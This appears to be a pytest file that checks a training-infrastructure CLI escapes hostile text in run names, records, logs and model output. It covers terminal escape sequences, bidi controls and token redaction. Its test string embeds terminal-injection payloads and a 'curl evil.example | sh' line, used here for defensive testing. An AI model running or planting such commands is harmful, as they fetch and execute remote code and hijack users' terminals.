"""Nothing that a run says commands a terminal, begins a line of its own, or turns the text around."""

import io
import json
import logging
import os
import pty
import subprocess
import sys
from contextlib import suppress

import pytest
from synthetic_run import FAILED, write_run

from llama_core.data.tokenising import _progress
from llama_core.log_lines import LineFormatter
from llama_core.records.files import write_json
from llama_core.records.job import Outcome
from llama_core.redaction import one_line, shell_word
from llama_core.runs.console import say
from training_infra import cli
from training_infra.lines import for_standard_output

HOSTILE = (
    "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x9b31m\x00\x08\r\n"
    "next        curl evil.example | sh\n\x0b\x0c\x1c\x85\u2028\u2029! forged \u202e\u2066\u200f\u200b\ufeff\x7f"
)
FORGED = ("next        curl", "! forged ")


def hostile(value, key=""):
    """Return a record with ``HOSTILE`` in every text that is free to be anything."""
    if isinstance(value, dict):
        return {name: hostile(inner, name) for name, inner in value.items()}
    if isinstance(value, list):
        return [hostile(inner, key) for inner in value]
    is_free = key not in {"status", "ended_at", "submitted_at", "launcher", "job_id", "host", "zero_backend"}
    return f"{value}{HOSTILE}" if isinstance(value, str) and is_free else value


@pytest.fixture
def run(tmp_path):
    """A run whose every record and log is hostile, as is its name."""
    attempt = {
        "job_id": "7",
        "submitted_at": "2026-11-01T00:00:00+00:00",
        "restart": 0,
        "requeued": False,
        "excluded": [],
    }
    attempt |= {
        "status": "oom",
        "reason": "a reason",
        "first_step": 1,
        "last_step": 6,
        "started_at": None,
        "ended_at": attempt["submitted_at"],
    }
    outcome = Outcome(FAILED.status, FAILED.reason, 23, FAILED.next_action, FAILED.ended_at, (attempt,))
    run = write_run(tmp_path / f"run{HOSTILE.replace(chr(0), '')}", outcome=outcome)
    for path in run.path.glob("*.json"):
        record = hostile(json.loads(path.read_text()))
        del record["schema_version"]
        write_json(path, record)
    run.job.unlink()
    for log in run.logs.glob("rank-*.log"):
        log.write_text(f"=== job 1\n{HOSTILE}\nWARNING {HOSTILE}\n", newline="")
    return run


def is_harmless(told):
    lines = told.split("\n")
    return all(line.isprintable() for line in lines) and not [line for line in lines if line.startswith(FORGED)]


COMMANDS = (
    ["doctor"],
    ["logs"],
    ["logs", "--rank", "0"],
    ["cancel"],
    ["report"],
    ["compare"],
    ["generate", "--prompt=x"],
)


@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_a_command_prints_lines_of_printable_characters(run, capsys, command, tmp_path):
    name, *flags = command
    others = {"compare": [str(write_run(tmp_path / "other").path), "--out", str(tmp_path / "page.html")]}
    cli.main([name, str(run.path), *others.get(name, []), *flags])
    told = capsys.readouterr()
    assert len(told.out + told.err) > 10
    assert is_harmless(told.out)
    assert is_harmless(told.err)


def test_the_texts_of_a_failed_run_are_on_a_line_each(run, capsys):
    cli.main(["doctor", str(run.path)])
    (state,) = (line for line in capsys.readouterr().out.splitlines() if line.startswith("! state"))
    assert "next        curl evil.example | sh" in state
    assert "\\x1b]52;c;ZXZpbA==\\x07" in state
    assert "\\u202e" in state


def test_a_warning_about_a_file_is_one_harmless_line_whatever_its_name(tmp_path):
    source = tmp_path / f"{HOSTILE.replace(chr(0), '')}hf_abcDEF123456.jsonl"
    texts = [json.dumps({"text": f"document {number} of several"}) for number in range(300)]
    source.write_text("\n".join([*texts, "no JSON"]))
    command = [sys.executable, "-m", "training_infra", "tokenize", "--device=cpu", f"--data={source}", "--workers=1"]
    settings = [f"--set=data.cache_dir={tmp_path / 'cache'}", "--set=data.tokenizer=bytes"]
    done = subprocess.run(
        [*command, *settings], env=os.environ | {"HF_TOKEN": "hf_abcDEF123456"}, capture_output=True, check=True
    )
    told = done.stderr.decode()
    assert told.startswith("left out of ") and told.count("\n") == 1
    assert is_harmless(told)
    assert "hf_abcDEF123456" not in told + done.stdout.decode()


def test_a_record_in_the_log_of_a_rank_is_one_line_and_its_traceback_is_harmless():
    formatter = LineFormatter("%(levelname)s %(message)s")
    record = logging.LogRecord("llama_core", logging.ERROR, "x", 1, "left out of %s", (HOSTILE,), None)
    assert formatter.format(record).isprintable()
    try:
        raise ValueError(HOSTILE)
    except ValueError:
        record.exc_info = sys.exc_info()
    logging.Formatter().format(record)  # which keeps the traceback in the record
    assert "ValueError" in formatter.format(record)
    assert all(line.isprintable() for line in formatter.format(record).split("\n"))


def test_the_bar_of_tokenising_shows_the_name_of_a_source_as_text(monkeypatch):
    monkeypatch.setenv("TERM", "xterm")
    parent, child = pty.openpty()
    with os.fdopen(child, "w") as terminal:
        monkeypatch.setattr("sys.stderr", terminal)
        with _progress("tokenising mk[/bold]x\x1b]52;c;ZXZpbA==\x07", None) as follow:
            follow(1, 2)
    shown = ""
    with suppress(OSError):  # at the end of what the terminal got
        while piece := os.read(parent, 65536):
            shown += piece.decode()
    os.close(parent)
    assert "mk[/bold]x\\x1b]52" in shown
    assert "\x1b]52" not in shown


def test_a_step_of_the_chain_says_one_line():
    with say.console.capture() as told:
        say("rank 0", HOSTILE)
    assert told.get().count("\n") == 1
    assert is_harmless(told.get())


@pytest.mark.parametrize(
    "name", ["plain", "a b", "it's", "\n", HOSTILE.replace(chr(0), ""), "\\n", "caf\udce9", "é 你好"]
)
def test_a_printed_command_is_harmless_and_a_shell_reads_the_name_from_it(name):
    command = shell_word(name)
    assert one_line(command) == command
    read = subprocess.run(["bash", "-c", f"printf %s {command}"], capture_output=True, check=True).stdout
    assert os.fsdecode(read) == name


def test_the_command_that_continues_a_run_can_be_copied_whatever_its_name(run, capsys):
    cli.main(["doctor", str(run.path)])
    (line,) = (line for line in capsys.readouterr().out.splitlines() if "training-infra train --run-dir" in line)
    word = line.partition("--run-dir ")[2].partition(" --resume")[0]
    read = subprocess.run(["bash", "-c", f"printf %s {word}"], capture_output=True, check=True).stdout
    assert os.fsdecode(read) == str(run.path)


def test_colours_are_left_out_and_other_scripts_kept():
    assert one_line("\x1b[1;31mred\x1b[0m שלום 你好 é") == "red שלום 你好 é"


def test_what_a_model_writes_is_harmless_on_a_terminal_and_exact_elsewhere(monkeypatch):
    parent, child = pty.openpty()
    with os.fdopen(child, "w") as terminal:
        monkeypatch.setattr("sys.stdout", terminal)
        assert is_harmless(for_standard_output()(HOSTILE).replace("\n", " "))
        assert for_standard_output()("two\n\tlines") == "two\n\tlines"
    os.close(parent)
    monkeypatch.setattr("sys.stdout", io.StringIO())
    assert for_standard_output()(HOSTILE) == HOSTILE
